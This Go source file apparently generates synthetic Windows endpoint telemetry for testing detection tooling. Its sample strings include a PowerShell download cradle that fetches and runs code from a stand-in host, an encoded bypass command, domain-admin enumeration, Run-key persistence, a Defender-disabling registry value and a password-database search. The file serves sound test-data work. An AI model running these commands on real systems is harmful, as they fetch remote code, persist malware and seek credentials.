package sample

import (
	"fmt"
	"strings"
)

// kinds lists the generated event types with their relative frequency.
var kinds = []kind{
	{2, 14, processCreated},
	{3, 6, func(g *gen, c *ctx) map[string]any {
		return map[string]any{"terminationTime": c.at.UnixMilli()}
	}},
	{4, 3, crossProcess},
	{5, 6, fileEvent("")},
	{12, 5, fileEvent("")},
	{7, 3, fileEvent("")},
	{6, 2, fileEvent(".bak")},
	{8, 16, network},
	{9, 2, registry},
	{10, 5, registry},
	{69, 2, registry},
	{57, 6, moduleLoaded},
	{36, 3, wmiActivity},
	{37, 5, winINet},
	{38, 8, dns},
	{39, 4, logon},
	{40, 2, logonFailed},
	{85, 1, service},
	{87, 2, service},
	{88, 2, service},
	{81, 1, task},
	{84, 2, task},
	{76, 1, antimalware},
	{89, 2, amsi},
	{65, 1, mitre},
	{74, 2, scriptBlock},
	{63, 1, inMemory},
}

var commandLines = []string{
	`"%s" --type=renderer --lang=en-US`,
	`"%s" /n "c:\users\%u\documents\q3-report.docx"`,
	`%s -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A`,
	`%s /c whoami /all`,
	`%s /c net group "Domain Admins" /domain`,
	`%s -k netsvcs -p -s Schedule`,
	`%s a -tzip c:\users\%u\appdata\local\temp\out.zip c:\users\%u\documents`,
}

func processCreated(g *gen, c *ctx) map[string]any {
	c.prog = []program{progCmd, progPwsh, progNet, progRundll, progChrome, progWord,
		progSevenZip, progSvchost, suspicious[g.pick(len(suspicious))]}[g.pick(9)]
	line := commandLines[g.pick(len(commandLines))]
	path := strings.ReplaceAll(c.prog.path, "%u", c.user)
	if strings.Contains(path, " ") && !strings.HasPrefix(line, `"`) {
		line = `"%s"` + strings.TrimPrefix(line, "%s")
	}
	cmd := fmt.Sprintf(strings.ReplaceAll(line, "%u", c.user), path)
	return map[string]any{"cmdLine": cmd, "cmdLineArgs": commandArgs(cmd)}
}

// commandArgs splits the arguments of a command line after its program, which may be
// quoted; quoted arguments stay whole, without their quotes.
func commandArgs(cmd string) []string {
	var args []string
	var cur strings.Builder
	quoted, started := false, false
	for _, r := range cmd + " " {
		switch {
		case r == '"':
			quoted, started = !quoted, true
		case r == ' ' && !quoted:
			if started {
				args = append(args, cur.String())
			}
			cur.Reset()
			started = false
		default:
			cur.WriteRune(r)
			started = true
		}
	}
	return args[1:]
}

func crossProcess(g *gen, c *ctx) map[string]any {
	if g.chance(0.5) {
		c.prog = suspicious[g.pick(len(suspicious))]
	}
	return map[string]any{"targetProcess": g.other(c, progLsass, system[0])}
}

var fileNames = []string{
	`c:\users\%u\documents\q3-report.docx`, `c:\users\%u\downloads\invoice_2291.pdf.exe`,
	`c:\users\%u\appdata\local\temp\~df3a1c.tmp`, `c:\windows\temp\w5751\wyserver.wys`,
	`c:\programdata\microsoft\crypto\rsa\machinekeys\5f1b.key`,
	`c:\users\%u\appdata\roaming\microsoft\windows\start menu\programs\startup\upd.lnk`,
	`\\srv-file-01\finance\payroll-2024.xlsx`,
}

func fileEvent(renameSuffix string) func(g *gen, c *ctx) map[string]any {
	return func(g *gen, c *ctx) map[string]any {
		file := strings.ReplaceAll(fileNames[g.pick(len(fileNames))], "%u", c.user)
		d := map[string]any{
			"file": file, "sha256": digest(sha256New, file),
			"disposition": []string{"File Create", "File Overwrite If", "File Open"}[g.pick(3)],
		}
		if renameSuffix != "" {
			d["newFile"] = file + renameSuffix
		}
		return d
	}
}

var ports = []int{443, 443, 443, 80, 53, 445, 3389, 135, 5985, 8080, 22}

// network is a connection of the endpoint: outbound to a web site (TCP, or UDP to port
// 53), inbound from another endpoint to a local service, over IPv6 between endpoints, or
// an ICMP echo (ports 0). localAddr is always the endpoint's own address.
func network(g *gen, c *ctx) map[string]any {
	site := remoteSites[g.pick(len(remoteSites))]
	d := map[string]any{
		"addressFamily": 0, "protocol": 0, "localAddr": c.host.ip,
		"localPort": 49152 + g.pick(16000), "remoteAddr": site.ip,
		"remotePort": ports[g.pick(len(ports))], "outbound": true,
	}
	peer := g.peer(c.host)
	switch {
	case g.chance(0.2): // inbound: the local port is the service
		d["outbound"] = false
		d["localPort"], d["remotePort"] = ports[3+g.pick(len(ports)-3)], 49152+g.pick(16000)
		d["remoteAddr"] = peer.ip
	case g.chance(0.1):
		d["addressFamily"], d["localAddr"], d["remoteAddr"] = 1, c.host.ip6, peer.ip6
	case g.chance(0.05):
		d["protocol"], d["localPort"], d["remotePort"], d["remoteAddr"] = 2, 0, 0, peer.ip
	}
	if d["remotePort"] == 53 {
		d["protocol"] = 1
	}
	return d
}

// peer is another endpoint than h.
func (g *gen) peer(h host) host {
	p := hosts[g.pick(len(hosts)-1)]
	if p.id == h.id {
		p = hosts[len(hosts)-1]
	}
	return p
}

var registryKeys = []struct{ key, name, data string }{
	{`\registry\machine\software\microsoft\windows\currentversion\run`, "Updater",
		`c:\users\public\svcmgr.exe -s`},
	{`\registry\user\s-1-5-21-3623811015-3361044348-30300820-1104` +
		`\software\microsoft\windows\currentversion\runonce`,
		"cleanup", `rundll32.exe c:\users\public\x.dll,Start`},
	{`\registry\machine\system\controlset001\services\examplesvc`, "ImagePath",
		`c:\windows\system32\svchost.exe -k netsvcs`},
	{`\registry\machine\software\policies\microsoft\windows defender`, "DisableAntiSpyware", "1"},
}

func registry(g *gen, c *ctx) map[string]any {
	k := registryKeys[g.pick(len(registryKeys))]
	return map[string]any{"rootObject": k.key, "name": k.name, "data": k.data, "type": 1}
}

var modules = []program{
	{sys32 + "vcruntime140.dll", "vcruntime140.dll", msCorp, "Microsoft Code Signing PCA 2010",
		80896, "x64"},
	{sys32 + "amsi.dll", "amsi.dll", msWindows, msPCA, 96256, "x64"},
	{sys32 + "wininet.dll", "wininet.dll", msWindows, msPCA, 4812800, "x64"},
	{`c:\users\public\x.dll`, "x.dll", "", "", 24576, "x64"},
}

func moduleLoaded(g *gen, c *ctx) map[string]any {
	m := modules[g.pick(len(modules))].json(c.user)
	m["fileType"] = 2
	m["creationTime"] = c.at.Add(-400 * 24 * 3600e9).UnixMilli()
	m["lastWriteTime"] = c.at.Add(-30 * 24 * 3600e9).UnixMilli()
	m["accessTime"] = c.at.UnixMilli()
	return m
}

func wmiActivity(g *gen, c *ctx) map[string]any {
	q := []string{"select * from win32_process", "select id from win32_serverfeature",
		"select * from win32_shadowcopy"}[g.pick(3)]
	return map[string]any{
		"version": 1, "etwEventId": 11,
		"operation":     "start iwbemservices::execquery - root\\cimv2 : " + q,
		"namespaceName": `\\.\root\cimv2`, "hostPid": 4 * (100 + g.pick(400)),
		"clientPid": 4 * (100 + g.pick(4000)), "clientMachine": c.host.name,
		"clientMachineFqn": strings.ToLower(c.host.name) + ".corp.example", "isLocal": true,
		"user": c.acct.user,
	}
}

func winINet(g *gen, c *ctx) map[string]any {
	site := remoteSites[g.pick(len(remoteSites))]
	path := []string{"/", "/favicon.ico", "/api/v2/check", "/dl/payload.bin"}[g.pick(4)]
	scheme := []string{"https", "http"}[g.pick(2)]
	return map[string]any{
		"url": scheme + "://" + site.domain + path,
		"requestHeaders": "GET " + path + " HTTP/1.1\r\nHost: " + site.domain +
			"\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
		"responseHeaders": "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n",
	}
}

func dns(g *gen, c *ctx) map[string]any {
	site := remoteSites[g.pick(len(remoteSites))]
	return map[string]any{
		"queryName": site.domain, "queryType": 1, "queryOptions": 1073766400, "status": 0,
		"queryResults": site.ip + ";",
	}
}

// logon is a successful logon (4624) on the endpoint from another one.
func logon(g *gen, c *ctx) map[string]any {
	peer := g.peer(c.host)
	who := people[g.pick(len(people))]
	c.prog, c.acct = progLsass, system[0]
	d := map[string]any{
		"etwEventId": 4624, "etwEventVersion": 2, "etwTask": 12544,
		"etwTimeCreated":     c.at.Format("2006-01-02T15:04:05.0000000Z"),
		"etwSubjectUserSid":  "S-1-5-18",
		"etwSubjectUserName": c.host.name + "$", "etwSubjectDomainName": c.host.domain,
		"etwSubjectLogonId": "0x3e7", "etwTargetUserName": who, "etwTargetDomainName": "CORP",
		"etwTargetUserSid": g.person(c.host, who).sid, "etwTargetLogonId": "0x16f223",
		"etwLogonType": []string{"2", "3", "10"}[g.pick(3)], "etwIpAddress": peer.ip,
		"etwIpPort": fmt.Sprint(49152 + g.pick(16000)), "etwWorkstationName": peer.name,
		"etwLogonProcessName": "NtLmSsp", "etwAuthenticationPackageName": "NTLM",
	}
	if g.chance(0.5) {
		d["etwLogonProcessName"], d["etwAuthenticationPackageName"] = "Kerberos", "Kerberos"
	}
	return d
}

// logonFailed is a failed logon (4625): a bad password, or an unknown user name.
func logonFailed(g *gen, c *ctx) map[string]any {
	d := logon(g, c)
	d["etwEventId"], d["etwEventVersion"] = 4625, 0
	d["etwTargetLogonId"] = "0x0"
	d["etwStatus"], d["etwFailureReason"] = "0xc000006d", "%%2313"
	d["etwSubStatus"] = "0xc000006a"
	if g.chance(0.3) {
		d["etwTargetUserName"], d["etwTargetUserSid"] = "administrator", "S-1-0-0"
		d["etwSubStatus"] = "0xc0000064"
	}
	return d
}

func service(g *gen, c *ctx) map[string]any {
	c.prog, c.acct = progServices, system[0]
	name := []string{"ExampleSvc", "AppXSvc", "PSEXESVC", "Spooler"}[g.pick(4)]
	img := progSvchost
	if name == "PSEXESVC" {
		img = progImplant
	}
	return map[string]any{
		"serviceName": name, "displayName": name + " service", "path": img.path,
		"rootObject":  `\registry\machine\system\controlset001\services\` + strings.ToLower(name),
		"serviceType": 16, "startType": 2 + g.pick(2), "servicePid": 4 * (100 + g.pick(4000)),
		"serviceProcess": g.other(c, img, system[0]),
	}
}

func task(g *gen, c *ctx) map[string]any {
	c.prog, c.acct = progSvchost, system[0]
	name := []string{`\Microsoft\Windows\Flighting\OneSettings\RefreshCache`,
		`\MicrosoftEdgeUpdateTaskMachineUA`, `\Updater`}[g.pick(3)]
	action := `c:\program files (x86)\microsoft\edgeupdate\microsoftedgeupdate.exe`
	if name == `\Updater` {
		action = `c:\users\public\svcmgr.exe`
	}
	return map[string]any{
		"taskName": name, "actionName": action, "etwEventId": 200,
		"etwActivityId": "{d0a1c2f3-0c5b-4da9-b7b3-6e21f0a9c41d}", "hostPid": 1144,
		"enginePid": 8392, "engineProcess": g.other(c, progTaskhost, system[0]),
	}
}

func antimalware(g *gen, c *ctx) map[string]any {
	bad := suspicious[g.pick(len(suspicious))]
	c.prog, c.acct = progDefender, system[0]
	return map[string]any{
		"appName": "Microsoft Defender Antivirus", "avObjectStatus": 1, "avScanReason": 2,
		"avThreatType": 0, "scanResult": 1,
		"contentName":       strings.ReplaceAll(bad.path, "%u", c.user),
		"avThreatInfoArray": []any{"Trojan:Win32/Sabsik.FL.B!ml"},
	}
}

func amsi(g *gen, c *ctx) map[string]any {
	c.prog = progPwsh
	return map[string]any{
		"appName": "PowerShell_" + progPwsh.path + "_10.0.19041.1", "scanResult": g.pick(2),
		"contentSize": 5186, "originalSize": 5186,
		"contentName": `c:\users\` + c.user + `\appdata\local\temp\setup.ps1`,
		"content":     downloadCradle,
	}
}

func mitre(g *gen, c *ctx) map[string]any {
	t := []struct {
		id      string
		tactics []any
	}{{"T1053", []any{2, 3, 4}}, {"T1059", []any{2}}, {"T1003", []any{6}},
		{"T1547", []any{3, 4}}, {"T1071", []any{10}}}[g.pick(5)]
	return map[string]any{"technique": t.id, "tactics": t.tactics, "relevance": 40 + g.pick(60)}
}

const downloadCradle = "IEX (New-Object Net.WebClient).DownloadString(" +
	"'http://cdn.bad-example.net/a')"

func scriptBlock(g *gen, c *ctx) map[string]any {
	c.prog = progPwsh
	text := []string{"Get-Process | Where-Object { $_.CPU -gt 100 }",
		downloadCradle,
		"Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx"}[g.pick(3)]
	return map[string]any{
		"tid": 4 * (100 + g.pick(4000)), "scriptBlockText": text, "scriptBlockSize": len(text),
		"path": "", "scriptBlockId": fmt.Sprintf("%08x-99fe-491b-b123-%012x", g.next, g.next*31),
		"entropy": 4.2,
	}
}

func inMemory(g *gen, c *ctx) map[string]any {
	alloc := suspicious[g.pick(len(suspicious))]
	return map[string]any{
		"peType": 2, "arch": "x64", "allocationType": 12288, "memProtection": 64,
		"baseAddress": 272695296, "regionSize": 221184 + 4096*g.pick(64),
		"allocatorProc": g.other(c, alloc, g.person(c.host, c.user)),
	}
}
